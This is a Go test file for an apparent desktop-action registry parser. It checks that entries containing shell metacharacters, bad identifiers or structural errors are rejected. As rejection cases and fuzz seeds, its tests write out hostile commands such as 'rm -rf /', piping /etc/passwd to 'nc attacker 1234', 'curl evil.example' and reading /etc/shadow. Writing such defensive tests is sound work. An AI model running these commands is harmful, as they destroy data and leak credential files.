package registry

import (
	"errors"
	"strings"
	"testing"

	"github.com/auroralab/aurora/internal/model"
)

func TestParseAcceptsValidEntries(t *testing.T) {
	src := `
# desktop actions
OPEN_FIREFOX = firefox
OPEN_EDITOR = gedit --new-window
SHUTDOWN:high = systemctl poweroff
LIST_HOME:low = ls -la /home
`
	reg, err := Parse(strings.NewReader(src))
	if err != nil {
		t.Fatalf("Parse() error = %v", err)
	}
	if reg.Len() != 4 {
		t.Fatalf("Len() = %d, want 4", reg.Len())
	}

	spec, ok := reg.Lookup("OPEN_FIREFOX")
	if !ok {
		t.Fatal("Lookup(OPEN_FIREFOX) not found")
	}
	if len(spec.Argv) != 1 || spec.Argv[0] != "firefox" {
		t.Errorf("argv = %v, want [firefox]", spec.Argv)
	}
	if spec.Danger != model.DangerUnknown {
		t.Errorf("danger = %v, want unknown", spec.Danger)
	}

	spec, _ = reg.Lookup("OPEN_EDITOR")
	if len(spec.Argv) != 2 || spec.Argv[0] != "gedit" || spec.Argv[1] != "--new-window" {
		t.Errorf("argv = %v, want [gedit --new-window]", spec.Argv)
	}

	spec, _ = reg.Lookup("SHUTDOWN")
	if spec.Danger != model.DangerHigh {
		t.Errorf("SHUTDOWN danger = %v, want high", spec.Danger)
	}
}

func TestParseRejectsShellMetacharacters(t *testing.T) {
	lines := []string{
		"EVIL = ls ; rm -rf /",
		"EVIL = cat /etc/passwd | nc attacker 1234",
		"EVIL = true && curl evil.example",
		"EVIL = echo `whoami`",
		"EVIL = echo $HOME",
		"EVIL = ls > /tmp/out",
		"EVIL = wc < /etc/shadow",
		"EVIL = sleep 1 & sleep 2",
	}
	for _, line := range lines {
		_, err := Parse(strings.NewReader(line))
		var loadErr *LoadError
		if !errors.As(err, &loadErr) {
			t.Errorf("Parse(%q) error = %v, want *LoadError", line, err)
			continue
		}
		if loadErr.Line != 1 {
			t.Errorf("Parse(%q) error line = %d, want 1", line, loadErr.Line)
		}
	}
}

func TestParseRejectsBadIdentifiers(t *testing.T) {
	lines := []string{
		"open_firefox = firefox",
		"Open_Firefox = firefox",
		"1PLAY = mpv song.ogg",
		"OPEN-FIREFOX = firefox",
		"OPEN FIREFOX = firefox",
		" = firefox",
	}
	for _, line := range lines {
		if _, err := Parse(strings.NewReader(line)); err == nil {
			t.Errorf("Parse(%q) succeeded, want identifier rejection", line)
		}
	}
}

func TestParseRejectsStructuralErrors(t *testing.T) {
	tests := []struct {
		name string
		src  string
	}{
		{"missing equals", "OPEN_FIREFOX firefox"},
		{"empty command", "OPEN_FIREFOX ="},
		{"duplicate id", "OPEN_FIREFOX = firefox\nOPEN_FIREFOX = chromium"},
		{"bad danger level", "SHUTDOWN:extreme = systemctl poweroff"},
		{"empty source", "\n# only comments\n"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if _, err := Parse(strings.NewReader(tt.src)); err == nil {
				t.Errorf("Parse(%q) succeeded, want error", tt.src)
			}
		})
	}
}

func TestWholeLoadFailsOnSingleBadLine(t *testing.T) {
	src := "OPEN_FIREFOX = firefox\nEVIL = rm -rf / ; true\n"
	_, err := Parse(strings.NewReader(src))
	var loadErr *LoadError
	if !errors.As(err, &loadErr) {
		t.Fatalf("Parse() error = %v, want *LoadError", err)
	}
	if loadErr.Line != 2 {
		t.Errorf("error line = %d, want 2", loadErr.Line)
	}
}

func TestLookupAbsentID(t *testing.T) {
	reg, err := Parse(strings.NewReader("OPEN_FIREFOX = firefox"))
	if err != nil {
		t.Fatalf("Parse() error = %v", err)
	}
	if _, ok := reg.Lookup("NOT_REGISTERED"); ok {
		t.Error("Lookup(NOT_REGISTERED) found, want absent")
	}
	if reg.Contains("NOT_REGISTERED") {
		t.Error("Contains(NOT_REGISTERED) = true, want false")
	}
}

func TestActionIDsSorted(t *testing.T) {
	src := "ZULU = z\nALPHA = a\nMIKE = m\n"
	reg, err := Parse(strings.NewReader(src))
	if err != nil {
		t.Fatalf("Parse() error = %v", err)
	}
	ids := reg.ActionIDs()
	want := []model.ActionID{"ALPHA", "MIKE", "ZULU"}
	for i, id := range want {
		if ids[i] != id {
			t.Fatalf("ActionIDs() = %v, want %v", ids, want)
		}
	}
}

func FuzzParse(f *testing.F) {
	f.Add("OPEN_FIREFOX = firefox")
	f.Add("EVIL = ls ; rm -rf /")
	f.Add("# comment\n\nPLAY_MUSIC = mpv --shuffle /music")
	f.Fuzz(func(t *testing.T, src string) {
		reg, err := Parse(strings.NewReader(src))
		if err != nil {
			return
		}
		// A successful parse must never admit a spec whose raw tokens
		// contain a shell metacharacter, and every ID must be valid.
		for _, id := range reg.ActionIDs() {
			if !id.Valid() {
				t.Fatalf("invalid id %q survived parsing", id)
			}
			spec, _ := reg.Lookup(id)
			for _, tok := range spec.Argv {
				if first := firstForbiddenToken(tok); first != "" {
					t.Fatalf("metacharacter %q survived in argv of %q", first, id)
				}
			}
		}
	})
}
